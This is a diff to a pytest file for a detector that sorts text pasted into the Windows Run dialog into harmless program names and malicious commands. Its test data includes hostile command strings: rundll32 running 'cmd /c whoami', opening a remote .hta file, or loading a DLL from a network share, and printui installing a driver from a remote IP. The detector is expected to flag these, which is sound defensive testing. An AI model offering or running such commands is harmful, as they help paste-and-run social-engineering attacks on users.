@@ -5,7 +5,15 @@ from __future__ import annotations
 import pytest
 
 from app.detection import Context, Engine, Level, PasteTarget
-from app.detection.runbox import CatalogueError, Shape, parse_tools, run_box_shape, typed_tools
+from app.detection.runbox import (
+    CatalogueError,
+    Shape,
+    page_tools,
+    parse_tools,
+    run_box_shape,
+    typed_tools,
+    uses_own_tool,
+)
 
 RUN_BOXES = [PasteTarget.RUN_DIALOG, PasteTarget.EXPLORER_BAR]
 PAGE = "https://docs.example.org/help"
@@ -216,6 +224,15 @@ def test_remote_desktop_typed_is_an_admins_but_from_a_web_page_a_command(
         ("rundll32 shell32.dll,ShellExec_RunDLL cmd /c whoami", Shape.COMMAND),
         ("rundll32 url.dll,FileProtocolHandler https://x.test/a.hta", Shape.COMMAND),
         (r"rundll32 C:\Users\Public\sysdm.cpl,EditEnvironmentVariables", Shape.COMMAND),
+        # a shell dialog on the page its one argument names: a number or a keyword, nothing else
+        ("rundll32.exe shell32.dll,Options_RunDLL 7", Shape.PROGRAM),
+        ("rundll32 shell32.dll,SHHelpShortcuts_RunDLL PrintersFolder", Shape.PROGRAM),
+        ("rundll32 shell32.dll,Options_RunDLL", Shape.COMMAND),
+        ("rundll32 shell32.dll,Options_RunDLL 7 8", Shape.COMMAND),
+        (r"rundll32 shell32.dll,Options_RunDLL \\host\x\a.dll", Shape.COMMAND),
+        (r"rundll32 C:\Users\Public\shell32.dll,Options_RunDLL 7", Shape.COMMAND),
+        ("rundll32 url.dll,Options_RunDLL 7", Shape.COMMAND),
+        ("rundll32 shell32.dll,SHHelpShortcuts_RunDLL Connect", Shape.COMMAND),
         # an editor given one file here, Windows Terminal one of its profiles
         (r"notepad %USERPROFILE%\.npmrc", Shape.OPEN),
         (r'mspaint "C:\Users\Dana\Pictures\Screenshot 1.png"', Shape.OPEN),
@@ -320,3 +337,37 @@ def test_the_shipped_tool_catalogue_reads_and_each_tool_is_typed_only(engine: En
         assert typed.level <= Level.INFO, typed.rule_ids
         from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
         assert from_page.level is Level.MALICIOUS, from_page.rule_ids
+
+
+def test_a_tools_switch_that_only_picks_its_page_is_a_program_name_whoever_wrote_it(
+    engine: Engine,
+) -> None:
+    """runbox.yaml `pages`: eventvwr.msc alone is a program name from any page, and so is it
+    opening its System log; a file, a share or a computer as a value stays typed-only or a
+    command."""
+    assert {"eventvwr", "printui", "taskmgr", "sndvol"} <= set(page_tools())
+    for text in ("eventvwr.msc /c:System", "printui.exe /s /t2", "taskmgr /3", "sndvol -m"):
+        assert run_box_shape(text) is Shape.PROGRAM, text
+        from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
+        assert from_page.level is Level.CLEAN, (text, from_page.rule_ids)
+    for text in (r"eventvwr /l:C:\Temp\saved.evtx", "eventvwr.msc /c:System /computer=ws01"):
+        assert run_box_shape(text) is Shape.TOOL, text
+    for text in (
+        r"printui.exe /s /t2 /c\\203.0.113.7",
+        r"printui /ia /m x /f \\203.0.113.7\s\x.inf",
+        "printui.exe /s /s",
+        "printui.exe /t /s",
+        r"eventvwr /c:\\203.0.113.7\x",
+    ):
+        assert run_box_shape(text) is Shape.COMMAND, text
+        from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
+        assert from_page.level is Level.MALICIOUS, (text, from_page.rule_ids)
+
+
+def test_the_tool_catalogue_reads_a_value_joined_to_its_switch_with_nothing_between() -> None:
+    entry = {"__line__": 3, "names": ["printui"], "what": "x", "switches": ["/t{number}"]}
+    tools = parse_tools({"pages": [entry]}, key="pages")
+    assert [(s.head, s.value, s.spaced) for s in tools["printui"]] == [("/t", "number", False)]
+    assert uses_own_tool("printui /t2", tools)
+    assert not uses_own_tool("printui /tx", tools)
+    assert not uses_own_tool("printui /t", tools)
